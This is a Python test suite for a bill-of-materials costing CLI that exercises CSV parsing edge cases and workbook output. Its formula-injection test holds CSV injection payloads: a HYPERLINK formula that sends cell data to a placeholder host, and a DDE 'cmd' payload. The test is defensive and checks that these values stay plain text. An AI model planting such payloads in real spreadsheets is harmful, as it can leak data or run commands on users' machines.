"""test_cases.py - The reader cases as end-to-end runs of `reshore run`

Each case of tests/data/cases runs through `reshore run` with
tests/data/cli/cases.ini, which maps the cases' "Qty" to annual_quantity
and "Unit price" to unit_price and makes Rotterdam every item's current
location. A BOM case runs with 00-base-locations.csv, a locations case
with 00-base-bom.csv. The tests check the values read (quantities,
prices, descriptions exactly as in the workbook), the rows rejected with
file, line and reason, the exit status and the package checks. The
landed costs quoted by some cases come from a simplified formula, so
they are not compared.

Cases 30 (lock files) and 31 (overlapping runs) concern `reshore batch`
only and are tested with it. Case 35 (1,100 x 1,000 rows) is in the
class RowLimit, which runs only with RESHORE_SLOW=1 (ctest label slow).
"""

import collections
import csv
import os
import re
import shutil
import unittest
import zipfile

import support
from support import CliTest, FAILED, OK, REJECTED

CASES_INI = os.path.join(support.CLI_DATA, "cases.ini")
BASE_BOM = "00-base-bom.csv"
BASE_LOCATIONS = "00-base-locations.csv"


def case_folder(name, files):
    """A fresh folder holding @files of tests/data/cases and the
    config as reshore.ini."""
    folder = support.scratch(name)
    for file in files:
        support.copy(os.path.join(support.CASES, file), folder)
    support.copy(CASES_INI, folder, "reshore.ini")
    return folder


def run_case(name, bom, locations=BASE_LOCATIONS, extra=(), out="out.xlsx",
             **kwargs):
    """Run one case in its own folder; returns (folder, result, path of
    the workbook)."""
    folder = case_folder(name, [bom, locations])
    args = ["run", "--bom", bom, "--locations", locations, "--config",
            "reshore.ini", "-o", out] + list(extra)
    result = support.run(args, cwd=folder, **kwargs)
    return folder, result, os.path.join(folder, out)


def current_rows(path):
    """Detail rows at the current location Rotterdam, by item."""
    return {r["Item"]: r for r in support.detail(path)
            if r["Location"] == "Rotterdam"}


def problem_lines(path, file, severity):
    """Sorted lines of the problems of @severity about @file."""
    return sorted(p["Line"] for p in support.problems(path)
                  if p["File"] == file and p["Severity"] == severity)


def run_sheet_input(path, role):
    """The Run sheet's row about the input file of @role."""
    ws = support.load(path)["Run"]
    rows = list(ws.iter_rows(values_only=True))
    for i, row in enumerate(rows):
        if row[0] == "Role" and row[1] == "Path":
            header = row
            for record in rows[i + 1:]:
                if record[0] == role:
                    return dict(zip(header, record))
    raise AssertionError("no Run sheet row for %s" % role)


class CaseTest(CliTest):
    """Shared checks: values read at the current location."""

    def assertRead(self, path, expected):
        """@expected maps item to (description, annual quantity, unit
        price); each must be read exactly."""
        rows = current_rows(path)
        self.assertEqual(sorted(rows), sorted(expected))
        for item, (description, quantity, price) in expected.items():
            row = rows[item]
            self.assertEqual(row["Description"], description, item)
            self.assertEqual(row["Annual quantity"], quantity, item)
            self.assertEqual(row["Price basis"], "current price", item)
            self.assertAlmostEqual(row["Price"], price, 12, item)

    def assertNoBomProblems(self, path, file):
        bad = [p for p in support.problems(path)
               if p["File"] == file and p["Severity"] != "note"]
        self.assertEqual(bad, [])


class Case00Base(CaseTest):

    @classmethod
    def setUpClass(cls):
        cls.folder, cls.result, cls.out = run_case("00", BASE_BOM)

    def test_status(self):
        self.assertStatus(self.result, OK)
        self.assertNotInStderr("[rejected]", self.result)

    def test_values(self):
        self.assertRead(self.out, {
            "P-1001": ("Schroef M4x10 RVS", 100, 0.05),
            "P-1002": ("Behuizing aluminium", 2, 12.5),
            "P-1003": ("Printplaat rev B", 1, 1234.56),
        })

    def test_nine_rows_numbers_are_numbers(self):
        rows = support.detail(self.out)
        self.assertEqual(len(rows), 9)
        for row in rows:
            self.assertIsInstance(row["Annual quantity"], (int, float))

    def test_bom_has_no_problems(self):
        self.assertNoBomProblems(self.out, BASE_BOM)

    def test_package(self):
        self.assertPackage(self.out)


class Case01Windows1252(CaseTest):

    @classmethod
    def setUpClass(cls):
        cls.folder, cls.result, cls.out = run_case(
            "01", "01-cp1252-accents.csv")

    def test_status(self):
        self.assertStatus(self.result, OK)

    def test_reported(self):
        self.assertInStderr("01-cp1252-accents.csv:2: text is not valid "
                            "UTF-8; read as Windows-1252", self.result)
        self.assertEqual(run_sheet_input(self.out, "bom")["Encoding"],
                         "Windows-1252")

    def test_descriptions_exact(self):
        self.assertRead(self.out, {
            "P-2001": ("Caf\u00e9-tafel eiken", 1, 249),
            "P-2002": ("Lampenkap cr\u00e8me, \u00eb-vorm", 3, 17.95),
            "P-2003": ("Montageset \u201cBasic\u201d \u2013 5 st.", 2, 8.4),
            "P-2004": ("Toeslag \u20ac 2,50 per stuk", 10, 2.5),
        })

    def test_no_replacement_characters(self):
        for text in support.all_text(self.out):
            self.assertNotIn("\ufffd", text)

    def test_package(self):
        self.assertPackage(self.out)


class Case02Utf8Bom(CaseTest):

    @classmethod
    def setUpClass(cls):
        cls.folder, cls.result, cls.out = run_case(
            "02", "02-utf8-bom-quoted-header.csv")

    def test_status(self):
        self.assertStatus(self.result, OK)
        self.assertNoBomProblems(self.out, "02-utf8-bom-quoted-header.csv")

    def test_values(self):
        self.assertRead(self.out, {
            "P-3001": ("Moer M6 \u00d8 10", 250, 0.02),
            "P-3002": ("Sluitring \u00bd inch", 250, 0.01),
        })

    def test_no_byte_order_mark_kept(self):
        for text in support.all_text(self.out):
            self.assertNotIn("\ufeff", text)
        self.assertEqual(run_sheet_input(self.out, "bom")["Encoding"],
                         "UTF-8 with BOM")


class Case03SepLine(CaseTest):

    @classmethod
    def setUpClass(cls):
        cls.folder, cls.result, cls.out = run_case(
            "03", "03-excel-sep-line.csv", extra=["-v"])

    def test_status(self):
        self.assertStatus(self.result, OK)

    def test_values(self):
        self.assertRead(self.out, {
            "P-4001": ("Veer 12 mm", 40, 0.15),
            "P-4002": ("Afstandsbus 5 mm, nylon", 40, 0.08),
        })

    def test_dialect(self):
        self.assertInStderr("03-excel-sep-line.csv: bom, delimiter "
                            "semicolon (sep= line)", self.result)
        run = run_sheet_input(self.out, "bom")
        self.assertEqual(run["Header line"], 2)
        self.assertEqual(run["Delimiter"], "semicolon")


class Case05NumberFormats(CaseTest):
    FILE = "05-nl-number-formats.csv"

    @classmethod
    def setUpClass(cls):
        cls.folder, cls.result, cls.out = run_case("05", cls.FILE)

    def test_status(self):
        self.assertStatus(self.result, REJECTED)

    def test_values(self):
        quantities_prices = {
            "P-5001": (1, 1234.56), "P-5002": (2, 12.5),
            "P-5003": (1000, 0.075), "P-5004": (1, 12.5),
            "P-5005": (1, 12.5), "P-5006": (1, 12.5),
            "P-5007": (1, -3.1), "P-5008": (1, -3.1),
            "P-5009": (1, -3.1), "P-5010": (1, -3.1),
            "P-5011": (1250, 0.4), "P-5012": (123457000000, 0.01),
            "P-5013": (3, 1234), "P-5017": (3, 0),
        }
        rows = current_rows(self.out)
        self.assertEqual(sorted(rows), sorted(quantities_prices))
        for item, (quantity, price) in quantities_prices.items():
            self.assertEqual(rows[item]["Annual quantity"], quantity, item)
            self.assertAlmostEqual(rows[item]["Price"], price, 12, item)

    def test_rejections(self):
        self.assertEqual(problem_lines(self.out, self.FILE, "rejected"),
                         [15, 16, 17, 19])
        lines = self.result.stderr.splitlines()
        for line, value in ((15, "'1.5'"), (17, "'n.v.t.'"),
                            (19, "'1,234,56'")):
            prefix = "%s:%d:4: column 'Unit price': value %s " % (
                self.FILE, line, value)
            self.assertTrue(any(x.startswith(prefix) and
                                x.endswith("[rejected]") for x in lines),
                            "%s...\n%s" % (prefix, self.result.describe()))
        self.assertTrue(any(x.startswith("%s:16:" % self.FILE) and
                            "missing unit_price" in x for x in lines))

    def test_scientific_warning(self):
        self.assertInStderr("%s:13:3: column 'Qty': value '1,23457E+11' is "
                            "in scientific notation" % self.FILE,
                            self.result)


class Case06PercentLocations(CaseTest):
    FILE = "06-percent-columns-locations.csv"

    @classmethod
    def setUpClass(cls):
        cls.folder, cls.result, cls.out = run_case("06", BASE_BOM,
                                                   cls.FILE)

    def locations_table(self):
        ws = support.load(self.out)["Assumptions"]
        rows = list(ws.iter_rows(values_only=True))
        start = [i for i, r in enumerate(rows) if r[0] == "Locations"][0]
        header = rows[start + 1]
        table = {}
        for row in rows[start + 2:]:
            if row[0] is None:
                break
            table[row[0]] = dict(zip(header[1:], row[1:]))
        return header, table

    def test_status(self):
        self.assertStatus(self.result, REJECTED)

    def test_duisburg_rejected(self):
        self.assertInStderr("%s:7:3: column 'Freight %%': value '3,5 "
                            "procent' is not a number" % self.FILE,
                            self.result)
        self.assertEqual(problem_lines(self.out, self.FILE, "rejected"),
                         [7])

    def test_percentages(self):
        header, table = self.locations_table()
        self.assertEqual(list(header[1:6]), ["Rotterdam", "Venlo",
                                              "Antwerpen", "Gda\u0144sk",
                                              "Lille"])
        freight = table["Freight % of price"]
        duty = table["Duty rate"]
        expected = {"Rotterdam": (2.5, 0), "Venlo": (3, 0),
                    "Antwerpen": (4, 1.7), "Gda\u0144sk": (6, 2.3),
                    "Lille": (12, 5)}
        for name, (f, d) in expected.items():
            self.assertAlmostEqual(freight[name], f / 100, 12, name)
            self.assertAlmostEqual(duty[name], d / 100, 12, name)

    def test_percent_format_us_syntax(self):
        with zipfile.ZipFile(self.out) as zf:
            styles = zf.read("xl/styles.xml").decode()
        codes = re.findall(r'formatCode="([^"]*)"', styles)
        self.assertTrue(any("%" in c for c in codes), codes)
        for code in codes:
            self.assertNotRegex(code, r"0,0")


class Case08UnterminatedQuote(CaseTest):
    FILE = "08-unterminated-quote.csv"

    def test_rejected_whole_file(self):
        folder = case_folder("08", [self.FILE, BASE_LOCATIONS, BASE_BOM])
        previous = support.run(["run", "--bom", BASE_BOM, "--locations",
                                BASE_LOCATIONS, "--config", "reshore.ini",
                                "-o", "out.xlsx"], cwd=folder)
        self.assertStatus(previous, OK)
        before = support.read_bytes(os.path.join(folder, "out.xlsx"))
        result = support.run(["run", "--bom", self.FILE, "--locations",
                              BASE_LOCATIONS, "--config", "reshore.ini",
                              "-o", "out.xlsx"], cwd=folder)
        self.assertStatus(result, FAILED)
        self.assertInStderr("%s:3: unterminated quoted field" % self.FILE,
                            result)
        self.assertEqual(support.read_bytes(os.path.join(folder,
                                                         "out.xlsx")),
                         before)
        self.assertNoTempFiles(folder)


class Case09QuotesNewlines(CaseTest):
    FILE = "09-rfc4180-quotes-newlines.csv"

    @classmethod
    def setUpClass(cls):
        cls.folder, cls.result, cls.out = run_case("09", cls.FILE)

    def test_status(self):
        self.assertStatus(self.result, REJECTED)

    def test_values(self):
        self.assertRead(self.out, {
            "P-8001": ("Kabel 3x1,5 mm\u00b2; per meter", 100, 0.89),
            "P-8002": ('Stekker "Schuko" haaks', 4, 3.25),
            "P-8003": ("Behuizing IP65\nmet deksel\nRAL 7035", 1, 45),
            "P-8004": ("Afdichtring", 10, 0.3),
        })

    def test_rejected_on_physical_line(self):
        self.assertInStderr("%s:8:3: column 'Qty': value 'abc' is not a "
                            "number" % self.FILE, self.result)
        self.assertEqual(problem_lines(self.out, self.FILE, "rejected"),
                         [8])

    def test_no_carriage_return_escapes(self):
        with zipfile.ZipFile(self.out) as zf:
            for name in zf.namelist():
                if name.endswith(".xml"):
                    self.assertNotIn(b"_x000D_", zf.read(name), name)


class Case11NoFinalNewline(CaseTest):
    FILE = "11-no-final-newline.csv"

    @classmethod
    def setUpClass(cls):
        cls.folder, cls.result, cls.out = run_case("11", cls.FILE)

    def test_status(self):
        self.assertStatus(self.result, OK)

    def test_values(self):
        self.assertRead(self.out, {
            "P-1101": ("Scharnier", 4, 2.1),
            "P-1102": ("Handgreep", 2, 5.6),
            "P-1103": ("Slot", 1, 9.99),
        })

    def test_remark_carried(self):
        items = {r["Item"]: r for r in support.summary_items(self.out)}
        self.assertEqual(items["P-1102"]["Remark"], "spoed")
        self.assertIsNone(items["P-1103"]["Remark"])
        self.assertIsNone(items["P-1101"]["Remark"])

    def test_no_warnings(self):
        self.assertNoBomProblems(self.out, self.FILE)


class Case12BlankAndRagged(CaseTest):
    FILE = "12-blank-and-ragged-rows.csv"

    @classmethod
    def setUpClass(cls):
        cls.folder, cls.result, cls.out = run_case("12", cls.FILE)

    def test_status(self):
        self.assertStatus(self.result, REJECTED)

    def test_values(self):
        self.assertRead(self.out, {
            "P-1201": ("Kabelbinder 200 mm", 500, 0.01),
            "P-1202": ("Krimpkous 6 mm", 20, 0.12),
            "P-1203": ("Tule", 100, 0.03),
            "P-1204": ("Kabelschoen", 100, 0.09),
        })

    def test_problems_only_on_lines_7_and_9(self):
        self.assertEqual(problem_lines(self.out, self.FILE, "rejected"),
                         [9])
        self.assertEqual(problem_lines(self.out, self.FILE, "warning"),
                         [7])
        self.assertInStderr("%s:7:6: value 'extra' in column 6, which has "
                            "no header, is ignored" % self.FILE,
                            self.result)
        self.assertTrue(any(x.startswith("%s:9:" % self.FILE) and
                            "missing unit_price" in x
                            for x in self.result.stderr.splitlines()),
                        self.result.describe())


class Case13HeaderVariants(CaseTest):

    def test_values(self):
        _, result, out = run_case("13", "13-header-variants.csv")
        self.assertStatus(result, OK)
        self.assertRead(out, {"P-1301": ("Nokbout M8", 12, 0.22)})


class Case15PreambleRows(CaseTest):
    FILE = "15-preamble-rows.csv"

    def test_header_found_on_line_4(self):
        _, result, out = run_case("15", self.FILE, extra=["-v"])
        self.assertStatus(result, OK)
        self.assertRead(out, {"P-1501": ("Ventilator 80 mm", 2, 6.75)})
        self.assertEqual(run_sheet_input(out, "bom")["Header line"], 4)
        self.assertRegex(result.stderr,
                         r"15-preamble-rows\.csv:4: skipped \d+ lines? "
                         r"before the header")


class Case16ControlCharacters(CaseTest):
    FILE = "16-control-chars-nul.csv"

    @classmethod
    def setUpClass(cls):
        cls.folder, cls.result, cls.out = run_case("16", cls.FILE)

    def test_status(self):
        self.assertStatus(self.result, OK)

    def test_values(self):
        # VT (line 2), NUL (line 3), SUB (line 4) and 0x14 (line 5) are
        # removed; the TAB of line 6 is kept.
        self.assertRead(self.out, {
            "P-1601": ("Relais 24VNO/NC", 4, 3.8),
            "P-1602": ("Zekering 5x20mm traag", 10, 0.35),
            "P-1603": ("Stekkerdoos", 1, 12),
            "P-1604": ("Trafo230/24V", 1, 19.5),
            "P-1605": ("Tab\ttussen", 1, 1),
        })

    def test_warnings(self):
        self.assertInStderr("%s:3:2: column 'Description': NUL byte "
                            "removed [warning]" % self.FILE, self.result)
        self.assertEqual(problem_lines(self.out, self.FILE, "warning"),
                         [2, 3, 4, 5])

    def test_package(self):
        self.assertPackage(self.out)


def utf16_units(text):
    return len(text.encode("utf-16-le")) // 2


class Case18OverlongCells(CaseTest):
    FILE = "18-overlong-cells.csv"

    @classmethod
    def setUpClass(cls):
        cls.folder, cls.result, cls.out = run_case("18", cls.FILE)

    def descriptions(self):
        with open(os.path.join(self.folder, self.FILE), encoding="utf-8",
                  newline="") as fp:
            return {r[0]: r[1] for r in list(csv.reader(fp,
                                                        delimiter=";"))[1:]}

    def test_status(self):
        self.assertStatus(self.result, OK)

    def test_all_items_costed(self):
        rows = current_rows(self.out)
        self.assertEqual(sorted(rows), ["P-1801", "P-1802", "P-1803"])
        for row in rows.values():
            self.assertEqual(row["Price basis"], "current price")

    def test_limit_kept(self):
        original = self.descriptions()
        rows = current_rows(self.out)
        self.assertEqual(rows["P-1801"]["Description"], original["P-1801"])
        self.assertEqual(len(rows["P-1801"]["Description"]), 32767)
        self.assertEqual(rows["P-1802"]["Description"],
                         original["P-1802"][:32767])
        cut = rows["P-1803"]["Description"]
        self.assertLessEqual(utf16_units(cut), 32767)
        self.assertTrue(original["P-1803"].startswith(cut))

    def test_warnings(self):
        self.assertEqual(problem_lines(self.out, self.FILE, "warning"),
                         [3, 4])

    def test_package(self):
        self.assertPackage(self.out)


# Descriptions of 20-formula-injection.csv after CSV unquoting. The
# workbook keeps each exactly, except that a lone CR is written as LF:
# XML parsers, Excel's among them, read a literal CR as LF anyway.
INJECTION = {
    "P-2001": '=HYPERLINK("http://example.invalid/?d="&A1;"info")',
    "P-2002": "=1+1",
    "P-2003": "+31 20 555 0100 leverancier bellen",
    "P-2004": "-korting 5%",
    "P-2005": "@SUM(1,2)",
    "P-2006": "\t=1+1",
    "P-2007": "\n=1+1",
    "P-2008": "=cmd|' /C calc'!A0",
    "P-2009": "Korting",
    "=P-2010": "Sleutel met =",
}


class Case20FormulaInjection(CaseTest):
    FILE = "20-formula-injection.csv"

    @classmethod
    def setUpClass(cls):
        cls.folder, cls.result, cls.out = run_case("20", cls.FILE)

    def test_status(self):
        self.assertStatus(self.result, OK)

    def test_text_exact(self):
        rows = current_rows(self.out)
        self.assertEqual(sorted(rows), sorted(INJECTION))
        for item, description in INJECTION.items():
            self.assertEqual(rows[item]["Description"], description, item)

    def test_text_cells_are_strings(self):
        wb = support.load_formulas(self.out)
        for name in ("Summary", "Detail"):
            for row in wb[name].iter_rows():
                for cell in row:
                    if cell.value in INJECTION or \
                            cell.value in INJECTION.values():
                        self.assertEqual(cell.data_type, "s",
                                         (name, cell.coordinate))

    def test_formulas_only_the_writers(self):
        formulas = support.formula_texts(self.out)
        self.assertTrue(formulas)
        for formula in formulas:
            self.assertRegex(formula, r"^(SUM\(I\d+:AC\d+\)|AD\d+\*E\d+|"
                             r"\(\$AD\$\d+-AD\d+\)\*E\d+)$")

    def test_negative_price_number(self):
        row = current_rows(self.out)["P-2009"]
        self.assertEqual(row["Price"], -12.5)
        self.assertLess(row["Landed cost"], 0)


class Case22KicadBom(CaseTest):
    FILE = "22-jlcpcb-kicad-bom.csv"

    def test_rejected_with_columns(self):
        folder, result, out = run_case("22", self.FILE, extra=["-v"])
        self.assertStatus(result, FAILED)
        self.assertNoWorkbook(out, result)
        self.assertInStderr("%s: bom, delimiter comma" % self.FILE, result)
        for column in ("Qty", "Unit price"):
            self.assertInStderr("%s:1: value '%s' is not a column of this "
                                "file" % (self.FILE, column), result)
        self.assertInStderr("found 'Comment', 'Designator', 'Footprint', "
                            "'LCSC Part #'", result)


class Case23MultilevelBom(CaseTest):
    FILE = "23-sap-multilevel-bom.csv"

    @classmethod
    def setUpClass(cls):
        cls.folder, cls.result, cls.out = run_case("23", cls.FILE)

    def test_status(self):
        self.assertStatus(self.result, REJECTED)

    def test_negative_quantity_rejected(self):
        self.assertInStderr("%s:7:4: column 'Qty': value '2,000-' is a "
                            "negative quantity (-2)" % self.FILE,
                            self.result)
        self.assertEqual(problem_lines(self.out, self.FILE, "rejected"),
                         [7])

    def test_assemblies_not_bought(self):
        self.assertEqual(sorted(current_rows(self.out)),
                         ["P-2301", "P-2302", "P-2303"])

    def test_quantities_read(self):
        # The annual quantities of the file: 4,500 is 4.5 and 1.250,000
        # is 1250 in this decimal-comma file.
        rows = current_rows(self.out)
        self.assertEqual(rows["P-2301"]["Annual quantity"], 4.5)
        self.assertEqual(rows["P-2302"]["Annual quantity"], 4)
        self.assertEqual(rows["P-2303"]["Annual quantity"], 1250)

    def test_prices_read(self):
        rows = current_rows(self.out)
        self.assertAlmostEqual(rows["P-2301"]["Price"], 6.1, 12)
        self.assertAlmostEqual(rows["P-2302"]["Price"], 2.35, 12)
        self.assertAlmostEqual(rows["P-2303"]["Price"], 0.004, 12)

    def test_levels_stay_text(self):
        ws = support.load(self.out)["Roll-up"]
        rows = support.table(ws, 4)
        levels = {r["Assembly"]: r["Level"] for r in rows}
        self.assertEqual(levels, {"A-100": "0", "B-200": ".1"})


class Case24DuplicateItems(CaseTest):
    FILE = "24-duplicate-item-lines.csv"

    @classmethod
    def setUpClass(cls):
        cls.folder, cls.result, cls.out = run_case("24", cls.FILE)

    def test_status(self):
        self.assertStatus(self.result, REJECTED)

    def test_quantities_added(self):
        self.assertRead(self.out, {
            "P-2401": ("Popnagel 4x8", 250, 0.02),
            "P-2402": ("Ring M5", 100, 0.01),
            "P-2403": ("Moer M5", 100, 0.015),
        })
        self.assertInStderr("%s:4: value 'P-2401' repeats the item of line "
                            "2; quantities added" % self.FILE, self.result)

    def test_conflicting_price_rejected(self):
        self.assertInStderr("%s:6:4: column 'Unit price': value '0,018' "
                            "conflicts with the price of item P-2403 on "
                            "line 5" % self.FILE, self.result)
        self.assertEqual(problem_lines(self.out, self.FILE, "rejected"),
                         [6])


class Case26TruncatedGzip(CaseTest):
    FILE = "26-truncated.csv.gz"

    def test_rejected_previous_kept(self):
        folder = case_folder("26", [self.FILE, BASE_LOCATIONS, BASE_BOM])
        previous = support.run(["run", "--bom", BASE_BOM, "--locations",
                                BASE_LOCATIONS, "--config", "reshore.ini",
                                "-o", "out.xlsx"], cwd=folder)
        self.assertStatus(previous, OK)
        before = support.read_bytes(os.path.join(folder, "out.xlsx"))
        result = support.run(["run", "--bom", self.FILE, "--locations",
                              BASE_LOCATIONS, "--config", "reshore.ini",
                              "-o", "out.xlsx"], cwd=folder)
        self.assertStatus(result, FAILED)
        self.assertStdoutEmpty(result)
        self.assertInStderr("%s: truncated or corrupt gzip data"
                            % self.FILE, result)
        self.assertEqual(support.read_bytes(os.path.join(folder,
                                                         "out.xlsx")),
                         before)
        self.assertNoTempFiles(folder)


class Case29PartialFile(CaseTest):
    FILE = "29-partial-upload.csv"

    def test_cut_row_rejected(self):
        # The file as a writer left it, cut in the middle of line 4.
        _, result, out = run_case("29", self.FILE)
        self.assertStatus(result, REJECTED)
        self.assertRead(out, {
            "P-2901": ("Borgveer 10 mm", 20, 0.05),
            "P-2902": ("Seegerring 12", 20, 0.04),
        })
        self.assertEqual(problem_lines(out, self.FILE, "rejected"), [4])
        self.assertTrue(any(x.startswith(self.FILE + ":4:")
                            for x in result.stderr.splitlines()),
                        result.describe())


class Case32OutputUnwritable(CaseTest):
    """The previous workbook stays intact and no temporary file is left
    when the output cannot be written."""

    def setUp(self):
        self.folder = case_folder("32", [BASE_BOM, BASE_LOCATIONS])
        self.out_dir = os.path.join(self.folder, "out")
        os.mkdir(self.out_dir)
        os.chmod(self.out_dir, 0o777)
        result = support.run(self.args(), cwd=self.folder)
        self.assertStatus(result, OK)
        self.previous = support.read_bytes(self.out_path())

    def args(self):
        return ["run", "--bom", BASE_BOM, "--locations", BASE_LOCATIONS,
                "--config", "reshore.ini", "-o", "out/out.xlsx"]

    def out_path(self):
        return os.path.join(self.out_dir, "out.xlsx")

    def check_intact(self, result):
        self.assertStatus(result, FAILED)
        self.assertInStderr("out/out.xlsx", result)
        self.assertEqual(support.read_bytes(self.out_path()),
                         self.previous)
        self.assertNoTempFiles(self.out_dir)

    def test_folder_read_only(self):
        os.chmod(self.out_dir, 0o555)
        try:
            result = support.run(self.args(), cwd=self.folder,
                                 user=support.restricted_user())
        finally:
            os.chmod(self.out_dir, 0o777)
        self.check_intact(result)

    def test_previous_read_only(self):
        os.chmod(self.out_path(), 0o444)
        result = support.run(self.args(), cwd=self.folder)
        self.check_intact(result)
        self.assertInStderr("read-only", result)

    def test_disk_full(self):
        # Writes past 16 KiB fail with EFBIG, as on a full disk; the
        # inputs are smaller and only read.
        result = support.run(self.args(), cwd=self.folder,
                             file_size_limit=16384)
        self.check_intact(result)


class Case33TmpdirUnusable(CaseTest):

    def setUp(self):
        self.folder = case_folder("33", [BASE_BOM, BASE_LOCATIONS])
        os.chmod(self.folder, 0o777)
        result = support.run(self.args(), cwd=self.folder)
        self.assertStatus(result, OK)
        self.previous = support.read_bytes(os.path.join(self.folder,
                                                        "out.xlsx"))

    def args(self, *extra):
        return ["run", "--bom", BASE_BOM, "--locations", BASE_LOCATIONS,
                "--config", "reshore.ini", "-o", "out.xlsx"] + list(extra)

    def check_failed(self, result, tmp):
        self.assertStatus(result, FAILED)
        self.assertInStderr(tmp, result)
        self.assertInStderr("temporary folder", result)
        self.assertEqual(support.read_bytes(os.path.join(self.folder,
                                                         "out.xlsx")),
                         self.previous)
        self.assertNoTempFiles(self.folder)

    def test_missing(self):
        tmp = os.path.join(self.folder, "no-such-tmp")
        result = support.run(self.args("--tmpdir", tmp), cwd=self.folder)
        self.check_failed(result, tmp)

    def test_read_only(self):
        tmp = os.path.join(self.folder, "tmp")
        os.mkdir(tmp)
        os.chmod(tmp, 0o555)
        result = support.run(self.args("--tmpdir", tmp), cwd=self.folder,
                             user=support.restricted_user())
        self.check_failed(result, tmp)

    def test_tmpdir_environment(self):
        tmp = os.path.join(self.folder, "no-such-env-tmp")
        result = support.run(self.args(), cwd=self.folder,
                             env={"TMPDIR": tmp})
        self.check_failed(result, tmp)


class Case37Hyperlinks(CaseTest):
    """reshore writes no hyperlinks: a datasheet URL column is carried
    into the Summary as plain text. 65,540 items with a URL each and one
    of 2,100 characters, as the case describes."""

    @classmethod
    def setUpClass(cls):
        cls.folder = support.scratch("37")
        rows = ["Item;Description;Qty;Unit price;Datasheet"]
        cls.urls = {}
        for i in range(65540):
            item = "H-%05d" % i
            cls.urls[item] = "https://example.invalid/ds/%s.pdf" % item
            rows.append("%s;Onderdeel %d;1;1,00;%s" % (item, i,
                                                       cls.urls[item]))
        cls.urls["H-99999"] = "https://example.invalid/" + "a" * 2100
        rows.append("H-99999;Lange link;1;1,00;" + cls.urls["H-99999"])
        support.write_text(os.path.join(cls.folder, "bom.csv"),
                           "\r\n".join(rows) + "\r\n")
        support.copy(os.path.join(support.CASES, BASE_LOCATIONS),
                     cls.folder)
        support.copy(CASES_INI, cls.folder, "reshore.ini")
        cls.result = support.run(
            ["run", "--bom", "bom.csv", "--locations", BASE_LOCATIONS,
             "--config", "reshore.ini", "-o", "out.xlsx"], cwd=cls.folder)
        cls.out = os.path.join(cls.folder, "out.xlsx")

    def test_status(self):
        self.assertStatus(self.result, OK)

    def test_no_hyperlinks(self):
        with zipfile.ZipFile(self.out) as zf:
            for name in zf.namelist():
                if name.endswith(".rels"):
                    self.assertNotIn(b"relationships/hyperlink",
                                     zf.read(name), name)
                elif name.startswith("xl/worksheets/"):
                    with zf.open(name) as fp:
                        tail = b""
                        for chunk in iter(lambda: fp.read(1 << 22), b""):
                            self.assertNotIn(b"<hyperlink", tail + chunk,
                                             name)
                            tail = chunk[-16:]

    def test_urls_as_text(self):
        header = {}
        for _, letter, value in support.stream_cells(
                self.out, "Summary", [chr(c) for c in range(65, 91)]):
            if value in ("Item", "Datasheet"):
                header[value] = letter
            if len(header) == 2:
                break
        self.assertEqual(sorted(header), ["Datasheet", "Item"])
        items, links = {}, {}
        for row, letter, value in support.stream_cells(
                self.out, "Summary", [header["Item"], header["Datasheet"]]):
            (items if letter == header["Item"] else links)[row] = value
        found = {items[r]: links.get(r) for r in items
                 if items[r] in self.urls}
        self.assertEqual(len(found), len(self.urls))
        for item, url in self.urls.items():
            self.assertEqual(found[item], url, item)

    def test_package(self):
        self.assertPackage(self.out)


class Case38ConstantMemory(CaseTest):
    """The same job in memory and in constant-memory mode gives the same
    cells on every sheet."""

    def test_same_cells(self):
        folder = case_folder("38", [BASE_BOM, BASE_LOCATIONS])
        base = ["run", "--bom", BASE_BOM, "--locations", BASE_LOCATIONS,
                "--config", "reshore.ini", "-o"]
        self.assertStatus(support.run(base + ["memory.xlsx"], cwd=folder),
                          OK)
        self.assertStatus(support.run(base + ["stream.xlsx",
                                              "--in-memory-rows", "1"],
                                      cwd=folder), OK)
        memory = support.load(os.path.join(folder, "memory.xlsx"))
        stream = support.load(os.path.join(folder, "stream.xlsx"))
        self.assertEqual(memory.sheetnames, stream.sheetnames)
        for name in memory.sheetnames:
            a = [list(r) for r in memory[name].iter_rows(values_only=True)]
            b = [list(r) for r in stream[name].iter_rows(values_only=True)]
            if name == "Run":
                # The command line, output path and writer mode differ.
                a = [r for r in a if r[0] not in ("Command line",
                                                  "Workbook",
                                                  "Workbook mode")]
                b = [r for r in b if r[0] not in ("Command line",
                                                  "Workbook",
                                                  "Workbook mode")]
            while a and all(v is None for v in a[-1]):
                a.pop()
            while b and all(v is None for v in b[-1]):
                b.pop()
            self.assertEqual(a, b, name)


class Case41Formulas(CaseTest):

    def test_formulas_and_cached_values(self):
        _, result, out = run_case("41", BASE_BOM)
        self.assertStatus(result, OK)
        formulas = support.load_formulas(out)["Detail"]
        values = support.load(out)["Detail"]
        header = [c.value for c in formulas[1]]
        landed = header.index("Landed cost") + 1
        annual = header.index("Annual cost") + 1
        first = header.index("Price") + 1
        checked = 0
        for r in range(2, formulas.max_row + 1):
            text = formulas.cell(r, landed).value
            if text is None:
                continue
            self.assertEqual(text, "=SUM(I%d:AC%d)" % (r, r))
            self.assertEqual(formulas.cell(r, annual).value,
                             "=AD%d*E%d" % (r, r))
            parts = [values.cell(r, c).value or 0
                     for c in range(first, landed)]
            cached = values.cell(r, landed).value
            self.assertAlmostEqual(cached, sum(parts), 9)
            self.assertAlmostEqual(values.cell(r, annual).value,
                                   cached * values.cell(r, 5).value, 6)
            checked += 1
        self.assertEqual(checked, 3)


class Case42NumberFormats(CaseTest):

    def test_us_syntax(self):
        _, result, out = run_case("42", BASE_BOM)
        self.assertStatus(result, OK)
        with zipfile.ZipFile(out) as zf:
            styles = zf.read("xl/styles.xml").decode()
        codes = re.findall(r'formatCode="([^"]*)"', styles)
        self.assertTrue(any("#,##0.00" in c for c in codes), codes)
        for code in codes:
            self.assertNotRegex(code, r"0,0", code)


class Case43Zip64(CaseTest):
    """Above the in-memory threshold reshore writes in constant-memory
    mode with libxlsxwriter's use_zip64 (src/workbook.c), so a part may
    pass 4 GiB. The test scales the case down: it forces constant-memory
    mode on a small job and checks the ZIP64 markers, because a part of
    4 GiB cannot be built in CI within minutes."""

    def test_zip64_in_constant_memory_mode(self):
        _, result, out = run_case("43", BASE_BOM,
                                  extra=["--in-memory-rows", "1"])
        self.assertStatus(result, OK)
        self.assertPackage(out)
        headers = support.zip_local_headers(out)
        self.assertTrue(headers)
        for name, version, extra in headers:
            self.assertGreaterEqual(version, 45, name)
            self.assertEqual(extra[:2], b"\x01\x00", name)


class Case39EmptyFiles(CaseTest):

    def check_empty(self, file):
        _, result, out = run_case("39-" + file, file)
        self.assertStatus(result, FAILED)
        self.assertInStderr("%s: empty file (no header)" % file, result)
